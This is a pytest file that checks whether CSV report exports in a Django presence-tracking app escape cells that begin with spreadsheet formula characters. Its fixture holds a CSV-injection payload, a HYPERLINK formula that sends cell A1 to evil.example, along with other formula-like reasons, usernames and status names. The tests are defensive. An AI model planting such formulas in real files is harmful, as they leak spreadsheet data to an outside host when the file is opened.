"""Item 4: no CSV download carries a live spreadsheet formula (CSV injection)."""

import csv
import io

import pytest

from presence.models import Source
from presence.services import presence_change_status
from tests.factories import AgentFactory, StatusFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _csv(client, slug: str, **params) -> list[dict]:
    params = {"since": "2020-01-01T00:00:00Z", "until": "2020-03-01T00:00:00Z", **params}
    response = client.get(f"/api/v1/reports/{slug}/", {**params, "format": "csv"})
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.fixture
def risky(db, statuses, time_machine):
    """An agent named like a formula, a status named like one, and reasons that start with every
    character a spreadsheet reads as a formula."""
    time_machine.move_to("2020-01-10T09:00:00Z", tick=False)
    agent = AgentFactory(username="@ann", status=statuses["available"])
    plus = StatusFactory(name="+Plus", slug="plus", category="online", enabled=True)
    busy = statuses["busy"]
    changes = [
        (FORMULA, plus),
        ("-1+2", busy),
        ("@SUM(A1)", plus),
        ("\tcmd", busy),
        ("\rcmd", plus),
        ("plain words", busy),
    ]
    for reason, status in changes:
        time_machine.shift(3600)
        presence_change_status(agent, status, actor=None, source=Source.SYSTEM, reason=reason)
    time_machine.move_to("2020-01-20T00:00:00Z", tick=False)
    return agent


@pytest.mark.sqlite
def test_status_log_csv_escapes_reasons_usernames_and_status_names(supervisor_api, risky):
    rows = _csv(supervisor_api, "status-log")
    assert [row["reason"] for row in rows] == [
        "'" + FORMULA, "'-1+2", "'@SUM(A1)", "'\tcmd", "'\rcmd", "plain words"
    ]  # fmt: skip
    assert {row["username"] for row in rows} == {"'@ann"}
    assert rows[0]["to_status"] == "'+Plus" and rows[0]["from_status"] == "Available"


def test_time_in_status_and_workload_csv_escape_names_but_keep_numbers(supervisor_api, risky):
    rows = _csv(supervisor_api, "time-in-status")
    assert {row["username"] for row in rows} == {"'@ann"}
    plus = [row for row in rows if row["status_name"] == "'+Plus"]
    # numbers stay numbers: no quote in front of a duration
    assert plus and all(row["seconds"].isdigit() for row in rows)
    workload = _csv(supervisor_api, "workload")
    assert [(row["username"], row["open_now"]) for row in workload] == [("'@ann", "0")]
